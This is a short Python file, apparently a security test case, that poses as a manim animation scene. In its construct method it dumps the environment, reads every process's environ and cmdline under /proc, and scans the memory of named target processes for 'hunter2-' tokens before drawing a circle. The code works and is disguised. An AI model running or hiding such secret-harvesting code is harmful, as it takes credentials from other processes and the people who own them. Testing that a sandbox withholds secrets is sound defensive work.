"""Looks for tokens in its environment, in those of other processes, and in their memory.

Verdict: ok
After: no secret is in the report or the log.
"""

import os
import re
from contextlib import suppress
from pathlib import Path

from manim import *

import targets


class Main(Scene):
    def construct(self):
        print(dict(os.environ))
        for folder in Path("/proc").glob("[0-9]*") if os.access("/proc", os.R_OK) else ():
            for name in ("environ", "cmdline"):
                with suppress(OSError):
                    print((folder / name).read_bytes())
        for pid in ("self", targets.SERVER, targets.HOST, targets.VICTIM):
            with suppress(OSError):
                print(Path(f"/proc/{pid}/environ").read_bytes())
            with suppress(OSError), open(f"/proc/{pid}/mem", "rb") as memory:
                for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    with suppress(OSError, ValueError, OverflowError):
                        memory.seek(start)
                        print(re.findall(rb"hunter2-\w+", memory.read(min(end - start, 1 << 24))))
        self.add(Circle())
